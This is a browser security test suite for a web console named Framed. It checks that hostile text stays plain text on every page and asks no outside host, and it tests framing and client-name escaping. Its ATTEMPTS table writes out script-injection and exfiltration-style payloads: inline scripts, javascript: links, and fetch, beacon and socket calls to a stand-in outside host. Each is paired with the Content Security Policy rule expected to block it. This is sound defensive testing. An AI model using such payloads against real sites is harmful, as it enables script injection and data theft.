/** Texts that strangers write, on every page of the console in a real browser: nothing runs, nothing is asked elsewhere. */

import { assert, assertEquals, assertMatch } from "@std/assert";
import type { Page } from "playwright-core";
import postgres from "postgres";
import { makePkce } from "../testing/connect.ts";
import { consoleTest, openConsole, type Visitor } from "../testing/console.ts";
import { drop, editorOf, fillEditor } from "../testing/file-editor.ts";
import {
  ATTACK,
  fillWithHostile,
  HOSTILE_FILE,
  SHOWN,
  startHostileSystems,
  VECTORS,
} from "../testing/hostile.ts";
import { startUpstream } from "../testing/upstream.ts";

const systems = startHostileSystems();
const { stack, visit, stop } = await openConsole({ env: { FRAMED_LOCAL_UPSTREAMS: systems.upstreams } });
const sql = postgres(stack.database, { max: 1, onnotice: () => {} });
const made = await fillWithHostile(stack, sql);
/** Another site: puts the console into a frame, and takes whatever it is sent. */
const elsewhere = startUpstream(({ target }) =>
  new Response(`<iframe src="${new URL(target, "http://x").searchParams.get("of") ?? ""}"></iframe>`, {
    headers: { "content-type": "text/html", "access-control-allow-origin": "*" },
  })
);

/** What a text that ran would leave, or a text that became markup would have put on the page. */
const TRACES = `[
  typeof pwned === "undefined" ? [] : "a text ran",
  [...document.querySelectorAll("img:not([src='/icon.svg']), iframe, object, embed, base, style:not([data-cm]), [onerror], [onload], [srcdoc]")]
    .filter((element) => element.tagName !== "STYLE" || element.textContent.includes("display:none"))
    .map((element) => element.outerHTML.slice(0, 200)),
  [...document.querySelectorAll("a[href]")].filter((link) => !/^https?:$/.test(link.protocol) || link.origin !== location.origin)
    .map((link) => "leads to " + link.href.slice(0, 200)),
  [...document.scripts].filter((script) => script.src === "" || new URL(script.src).origin !== location.origin)
    .map((script) => script.outerHTML.slice(0, 200)),
].flat()`;

/** Texts in which something turns or hides, as a page shows or says them; what is typed into is the browser's own. */
const HIDDEN = `(() => {
  const hides = /[\\u202e\\u2066\\u200b\\u200d\\ufeff\\u00ad]/;
  const found = [];
  for (const element of document.querySelectorAll("body, body *:not(.cm-editor *)")) {
    const texts = [...element.childNodes].filter((node) => node.nodeType === 3).map((node) => node.data);
    for (const name of ["title", "aria-label", "placeholder", "alt"]) texts.push(element.getAttribute(name) ?? "");
    if (texts.some((text) => hides.test(text))) found.push(element.outerHTML.slice(0, 200));
  }
  return found;
})()`;

/** Looks at the page as it stands: everything on it is text, and fits, on a desk and on a phone. */
async function assertOnlyText(page: Page, where: string): Promise<void> {
  await page.getByText(SHOWN).first().waitFor({ state: "attached" });
  assertEquals(await page.evaluate(TRACES), [], where);
  assertEquals(await page.evaluate(HIDDEN), [], `${where}: nothing hides`);
  for (const width of [1280, 360]) {
    await page.setViewportSize({ width, height: 800 });
    const wide = await page.evaluate<number>("document.documentElement.scrollWidth");
    assert(wide <= width, `${where}: ${wide} px at ${width} px`);
  }
}

/** Opens `path`, runs `work` there, and holds everything that the browser did meanwhile to what it may do. */
async function watch(
  path: string,
  work: (page: Page) => Promise<void>,
  { as = stack.admin, maySay }: { as?: Visitor; maySay?: RegExp } = {},
): Promise<void> {
  const asked: string[] = [];
  const happened: string[] = [];
  await visit(as, "/connect/consent", async ({ page, context }) => {
    context.on("request", (request) => asked.push(request.url()));
    context.on("page", (other) => happened.push(`opened ${other.url()}`));
    page.on("dialog", (dialog) => {
      happened.push(`asked ${dialog.message()}`);
      void dialog.dismiss();
    });
    await page.addInitScript(
      `addEventListener("securitypolicyviolation", (event) =>
        console.error("the policy kept out " + event.effectiveDirective + " " + event.blockedURI))`,
    );
    await page.goto(stack.console + path);
    await page.getByRole("heading", { level: 1 }).waitFor();
    await work(page);
    assertMatch(await page.title(), / · Framed$/);
    assertEquals(await page.evaluate(TRACES), [], `${path} in the end`);
  }, maySay === undefined ? {} : { maySay });
  assert(asked.length > 0);
  assertEquals(asked.filter((url) => new URL(url).origin !== stack.console), [], `${path} asks nobody else`);
  assertEquals(happened, [], path);
}

/** Each page, and what a person opens on it. */
const PAGES: readonly { path: string; open?: (page: Page) => Promise<void> }[] = [
  { path: "/tasks" },
  { path: "/tasks?show=decided" },
  { path: `/tasks/${made.waiting}` },
  { path: `/tasks/${made.rejected}`, open: (page) => page.getByText(/^Rejected/).first().waitFor() },
  { path: `/tasks/${made.failed}` },
  { path: `/tasks/${made.followed}` },
  { path: "/connections" },
  {
    path: "/log",
    async open(page) {
      const rows = page.getByRole("region", { name: "Rows" }).getByRole("listitem");
      await rows.first().waitFor();
      for (const row of (await rows.all()).slice(0, 4)) await row.locator("summary").click();
      await page.getByText("req_hostile").waitFor();
    },
  },
  { path: "/catch-up", open: (page) => page.getByText(/^until/).first().waitFor() },
  { path: "/people" },
  { path: "/people?tab=keys" },
  { path: "/people?tab=programs" },
  { path: "/people?tab=settings" },
];

consoleTest("on every page what strangers wrote stays text, asks nobody, and fits", async (t) => {
  for (const { path, open } of PAGES) {
    await t.step(path.replaceAll(/[0-9a-f-]{36}/g, "…"), () =>
      watch(path, async (page) => {
        await open?.(page);
        await assertOnlyText(page, path);
      }));
  }
});

consoleTest("in every part of a tool's page too, also in what it just answered", async () => {
  for (const slug of ["hostile_fixture", "hostile_live", "hostile_write", "hostile_server"]) {
    await watch(`/connections/${slug}`, async (page) => {
      for (const part of await page.getByRole("tab").all()) {
        const name = await part.innerText();
        await part.click();
        await page.getByRole("tab", { name, selected: true }).waitFor();
        const ask = page.getByRole("button", { name: /^(Read now|Propose it)$/ });
        if (await ask.count() > 0 && slug !== "hostile_server") {
          await ask.click();
          await page.getByText(/answered|It waits for a person/).first().waitFor();
        }
        await assertOnlyText(page, `${slug}, ${name}`);
      }
    });
  }
});

consoleTest("in a file that somebody hands over, and in what is said of it", async () => {
  await watch("/connections/new", async (page) => {
    await editorOf(page).waitFor();
    await drop(page, {
      name: `${VECTORS[9]} ${SHOWN}.json`,
      bytes: new TextEncoder().encode(JSON.stringify(HOSTILE_FILE, null, 2)),
    });
    await page.getByText(/ is here$/).waitFor();
    await page.getByRole("heading", { name: /^Example 2 of 2/ }).waitFor();
    for (const card of await page.getByRole("article").all()) {
      await card.getByText(/^The answer a host gets/).click();
    }
    await assertOnlyText(page, "a file that is fine");
    await fillEditor(page, JSON.stringify({ ...HOSTILE_FILE, [ATTACK]: ATTACK, access: ATTACK }, null, 2));
    await page.getByRole("button", { name: /^Line \d+/ }).first().waitFor();
    await assertOnlyText(page, "a file with problems");
  });
});

consoleTest("in what a program calls itself, and what the workspaces are called", async () => {
  for (const client_name of [VECTORS[0]!, VECTORS[1]!, VECTORS[9]! + VECTORS[8]!.slice(0, 40)]) {
    const issuer = `${stack.functions}/connect`;
    const redirect_uri = "http://localhost/callback";
    const registered = await fetch(`${issuer}/register`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ client_name, redirect_uris: [redirect_uri] }),
    });
    const { client_id } = await registered.json();
    const query = new URLSearchParams({
      response_type: "code",
      client_id,
      redirect_uri,
      code_challenge: makePkce().challenge,
      code_challenge_method: "S256",
      state: "the state",
      resource: `${issuer}/mcp`,
    });
    const begun = await fetch(`${issuer}/authorize?${query}`, { redirect: "manual" });
    await begun.body?.cancel();
    const { pathname, search } = new URL(begun.headers.get("location")!);
    await watch(pathname + search, async (page) => {
      await page.getByRole("form", { name: "What it asks for" }).waitFor();
      await assertOnlyText(page, client_name);
    });
  }
});

/** What a text would do if it could run on the page; each names the rule that keeps it out. */
const ATTEMPTS: Readonly<Record<string, readonly [rule: string, attempt: string]>> = {
  "an inline script": ["script-src-elem", `add("script", { textContent: "pwned = 1" })`],
  "a handler in an attribute": ["script-src-attr", `add("a", { onclick: "pwned = 1" }).click()`],
  "a javascript: link": ["script-src-elem", `add("a", { href: "javascript:pwned=1" }).click()`],
  "a text as code": ["script-src", `setTimeout("pwned = 1")`],
  "an outside script": ["script-src-elem", `add("script", { src: elsewhere })`],
  "an outside picture": ["img-src", `add("img", { src: elsewhere })`],
  "an outside style": ["style-src-elem", `add("link", { rel: "stylesheet", href: elsewhere })`],
  "a style of its own": ["style-src-elem", `add("style", { textContent: "* { display: none }" })`],
  "an outside frame": ["frame-src", `add("iframe", { src: elsewhere })`],
  "an outside object": ["object-src", `add("object", { data: elsewhere })`],
  "an outside sound": ["media-src", `add("audio", { src: elsewhere })`],
  "an outside request": ["connect-src", `fetch(elsewhere).catch(() => {})`],
  "a beacon": ["connect-src", `navigator.sendBeacon(elsewhere, "x")`],
  "an outside socket": ["connect-src", `new WebSocket(elsewhere.replace("http", "ws"))`],
  "a worker out of a text": ["worker-src", `new Worker(URL.createObjectURL(new Blob(["pwned = 1"])))`],
  "a form sent away": ["form-action", `add("form", { action: elsewhere, method: "post" }).submit()`],
  "another base": ["base-uri", `add("base", { href: elsewhere })`],
};

consoleTest("what a text would do if it ran is kept out by the page's policy, each by its rule", async () => {
  await visit(stack.admin, "/people", async ({ page }) => {
    await page.getByRole("heading", { level: 1 }).waitFor();
    for (const [what, [rule, attempt]] of Object.entries(ATTEMPTS)) {
      // In a task of its own: what the test's own call may do is not what the page may.
      const told = await page.evaluate<string>(`new Promise((resolve) => {
        const elsewhere = ${JSON.stringify(elsewhere.url.href)};
        const add = (name, attributes) => {
          const element = document.createElement(name);
          for (const [key, value] of Object.entries(attributes)) {
            if (key === "textContent") element.textContent = value;
            else element.setAttribute(key, value);
          }
          return document.body.appendChild(element);
        };
        addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
        setTimeout(() => { try { ${attempt} } catch {} });
        setTimeout(() => resolve("nothing kept it out"), 5000);
      })`);
      assertEquals([what, told], [what, rule]);
    }
    assertEquals(await page.evaluate("typeof pwned"), "undefined");
    assertEquals(new URL(page.url()).origin, stack.console);
  }, { maySay: /Content Security Policy/ });
  assertEquals(elsewhere.requests.map(({ target }) => target), []);
});

consoleTest("no other page shows the console in a frame", async () => {
  for (const path of ["/tasks", `/tasks/${made.waiting}`, "/people?tab=keys"]) {
    await visit(stack.admin, "/tasks", async ({ page }) => {
      const of = encodeURIComponent(stack.console + path);
      const refused = page.waitForEvent("console", (message) => message.text().includes("frame-ancestors"));
      await page.goto(`${elsewhere.url.origin}/?of=${of}`);
      await refused;
      const [, frame] = page.frames();
      assertEquals(await frame!.locator("#root, nav").count(), 0);
      assertEquals(frame!.url(), "chrome-error://chromewebdata/");
    }, { maySay: /frame-ancestors|X-Frame-Options|chrome-error/ });
  }
});

consoleTest("the browser and the stack end", async () => {
  await sql.end();
  await stop();
  await Promise.all([systems.close(), elsewhere.close()]);
});
